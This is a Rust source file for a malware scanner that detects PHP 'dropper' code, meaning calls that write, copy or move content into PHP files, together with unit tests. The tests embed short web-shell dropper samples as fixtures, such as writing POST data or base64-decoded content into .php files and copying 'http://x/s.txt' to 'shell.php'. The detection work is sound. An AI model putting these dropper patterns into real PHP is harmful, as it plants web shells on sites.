//! Does a PHP file's content write PHP files? The dropper-candidate matcher.
//!
//! A call is a candidate when its target names a PHP file (`.php`, `.php3`-`.php8`,
//! `.phtml`, `.phar`, any case): `file_put_contents(TARGET, ...)`, `fopen(TARGET, MODE)` with
//! a writing mode (`w`, `a`, `x`, `c`; `fwrite` needs such a handle), `move_uploaded_file(_,
//! TARGET)`, `copy(_, TARGET)` and `rename(_, TARGET)`. A target is the argument's own text
//! (a string literal, a concatenation) or, when it is a plain variable, the right-hand side
//! of an assignment to that variable anywhere in the file. Comments are not stripped: a
//! commented-out call is still a candidate (a candidate alone is never a finding).
//!
//! Works on bytes, never panics, reads at most [`MAX_SCAN`] bytes and [`MAX_ARGS`] bytes of
//! one call's arguments.

/// Bytes of a file the matcher looks at.
pub const MAX_SCAN: usize = 1024 * 1024;
/// Bytes of one call's argument list looked at.
pub const MAX_ARGS: usize = 1024;
/// Calls looked at per file.
pub const MAX_CALLS: usize = 4096;

/// One call that writes a PHP file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Candidate {
    /// The function called (`file_put_contents`, `fopen`, ...).
    pub function: &'static str,
    /// 1-based line of the call.
    pub line: usize,
}

/// (function, index of the target argument)
const CALLS: &[(&str, usize)] = &[
    ("file_put_contents", 0),
    ("fopen", 0),
    ("move_uploaded_file", 1),
    ("copy", 1),
    ("rename", 1),
];

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
}

/// Whether `text` names a file a web server runs as PHP ([`crate::hostfs::is_php_name`]).
pub fn names_php(text: &[u8]) -> bool {
    let lower = text.to_ascii_lowercase();
    let mut i = 0;
    while let Some(p) = memchr::memmem::find(&lower[i..], b".ph") {
        let at = i + p + 1;
        let rest = &lower[at..];
        let names_ext = crate::hostfs::PHP_EXTENSIONS.iter().any(|(e, kind)| {
            *kind != crate::hostfs::PhpExt::Included
                && rest.starts_with(e.as_bytes())
                && !rest.get(e.len()).is_some_and(|b| is_ident(*b))
        });
        if names_ext {
            return true;
        }
        i = at;
    }
    false
}

/// Splits the argument list starting right after `(` into top-level arguments (strings and
/// nested parentheses respected), up to the closing `)` or [`MAX_ARGS`] bytes.
fn arguments(s: &[u8]) -> Vec<&[u8]> {
    let s = &s[..s.len().min(MAX_ARGS)];
    let mut out = Vec::new();
    let mut depth = 0usize;
    let mut quote: Option<u8> = None;
    let mut start = 0;
    let mut i = 0;
    while i < s.len() {
        let b = s[i];
        if let Some(q) = quote {
            if b == b'\\' {
                i += 2;
                continue;
            }
            if b == q {
                quote = None;
            }
        } else {
            match b {
                b'\'' | b'"' | b'`' => quote = Some(b),
                b'(' | b'[' | b'{' => depth += 1,
                b')' | b']' | b'}' if depth > 0 => depth -= 1,
                b')' => {
                    out.push(&s[start..i]);
                    return out;
                }
                b',' if depth == 0 => {
                    out.push(&s[start..i]);
                    start = i + 1;
                }
                _ => {}
            }
        }
        i += 1;
    }
    out.push(&s[start.min(s.len())..]);
    out
}

/// `$name` when `arg` is a plain variable.
fn variable(arg: &[u8]) -> Option<&[u8]> {
    let t = arg.trim_ascii();
    let name = t.strip_prefix(b"$")?;
    (!name.is_empty() && name.iter().all(|b| is_ident(*b))).then_some(t)
}

/// Whether some assignment `$var = ...;` (or `.=`) in `content` names a PHP file.
fn assigned_php(content: &[u8], var: &[u8]) -> bool {
    let mut i = 0;
    while let Some(p) = memchr::memmem::find(&content[i..], var) {
        let end = i + p + var.len();
        i = end;
        if content.get(end).is_some_and(|b| is_ident(*b)) {
            continue;
        }
        let rest = &content[end..];
        let rest = rest.trim_ascii_start();
        let rhs = if let Some(r) = rest.strip_prefix(b".=") {
            r
        } else if let Some(r) = rest.strip_prefix(b"=") {
            if r.first() == Some(&b'=') {
                continue;
            }
            r
        } else {
            continue;
        };
        let stop = memchr::memchr(b';', rhs).unwrap_or(rhs.len()).min(MAX_ARGS);
        if names_php(&rhs[..stop]) {
            return true;
        }
    }
    false
}

fn writing_mode(arg: Option<&[u8]>) -> bool {
    let Some(a) = arg else {
        return false;
    };
    let t = a.trim_ascii();
    let inner = t
        .strip_prefix(b"'")
        .or_else(|| t.strip_prefix(b"\""))
        .unwrap_or(t);
    matches!(inner.first(), Some(b'w' | b'a' | b'x' | b'c'))
}

/// The first call in `content` that writes a PHP file, if any.
pub fn find_candidate(content: &[u8]) -> Option<Candidate> {
    let content = &content[..content.len().min(MAX_SCAN)];
    let lower = content.to_ascii_lowercase();
    let mut calls = 0usize;
    for &(function, target) in CALLS {
        let name = function.as_bytes();
        let mut i = 0;
        while let Some(p) = memchr::memmem::find(&lower[i..], name) {
            let at = i + p;
            i = at + name.len();
            calls += 1;
            if calls > MAX_CALLS {
                return None;
            }
            if at > 0 && is_ident(lower[at - 1]) {
                continue;
            }
            let after = &content[i..];
            let trimmed = after.trim_ascii_start();
            let Some(args) = trimmed.strip_prefix(b"(") else {
                continue;
            };
            let args = arguments(args);
            let Some(arg) = args.get(target) else {
                continue;
            };
            let php = names_php(arg) || variable(arg).is_some_and(|v| assigned_php(content, v));
            if !php || (function == "fopen" && !writing_mode(args.get(1).copied())) {
                continue;
            }
            let line = 1 + content[..at].iter().filter(|b| **b == b'\n').count();
            return Some(Candidate { function, line });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(src: &str) -> Option<&'static str> {
        find_candidate(src.as_bytes()).map(|c| c.function)
    }

    #[test]
    fn writers_of_php_files_are_candidates() {
        assert_eq!(
            hit("<?php file_put_contents('x.php', $_POST['c']);"),
            Some("file_put_contents")
        );
        assert_eq!(
            hit("<?php\n$f = __DIR__ . '/../wp-content/uploads/s.PHP';\nfile_put_contents($f, base64_decode($d));"),
            Some("file_put_contents")
        );
        assert_eq!(
            hit("<?php $h = fopen(\"cache/\" . $n . \".phtml\", 'w'); fwrite($h, $c);"),
            Some("fopen")
        );
        assert_eq!(
            hit("<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/a.php5');"),
            Some("move_uploaded_file")
        );
        assert_eq!(
            hit("<?php COPY ('http://x/s.txt', 'shell.php');"),
            Some("copy")
        );
        let c = find_candidate(b"<?php\n\n  file_put_contents(\"a.php\", 1);").unwrap();
        assert_eq!(c.line, 3);
    }

    #[test]
    fn look_alikes_are_not() {
        assert_eq!(hit("<?php file_put_contents('log.txt', $x);"), None);
        assert_eq!(hit("<?php $h = fopen('config.php', 'r');"), None);
        assert_eq!(hit("<?php my_file_put_contents('a.php', 1);"), None);
        assert_eq!(hit("<?php file_put_contents('a.phpx', 1);"), None);
        assert_eq!(
            hit("<?php move_uploaded_file($t, 'a.jpg'); $s = 'x.php';"),
            None
        );
        assert_eq!(hit("<?php $f = 'a.txt'; file_put_contents($f, 1);"), None);
        assert_eq!(
            hit("<?php if ($f == 'a.php') file_put_contents($f, 1);"),
            None
        );
        assert_eq!(hit("<?php echo 'file_put_contents';"), None);
    }

    #[test]
    fn hostile_input_never_panics() {
        for s in [
            &b""[..],
            b"file_put_contents",
            b"file_put_contents(",
            b"file_put_contents('",
            b"file_put_contents(\"\\",
            b"fopen($",
            b"fopen($a.php,",
            b"move_uploaded_file(a",
            b"$=.=;file_put_contents($)",
            b"\xff\xfe file_put_contents(\xff.php)",
        ] {
            let _ = find_candidate(s);
        }
        let mut g = crate::checks::testutil::garbage(7, 64 * 1024);
        g.extend_from_slice(b"file_put_contents($");
        let _ = find_candidate(&g);
        assert_eq!(
            find_candidate(&b"file_put_contents(".repeat(10_000)),
            None,
            "bounded by MAX_CALLS"
        );
    }
}
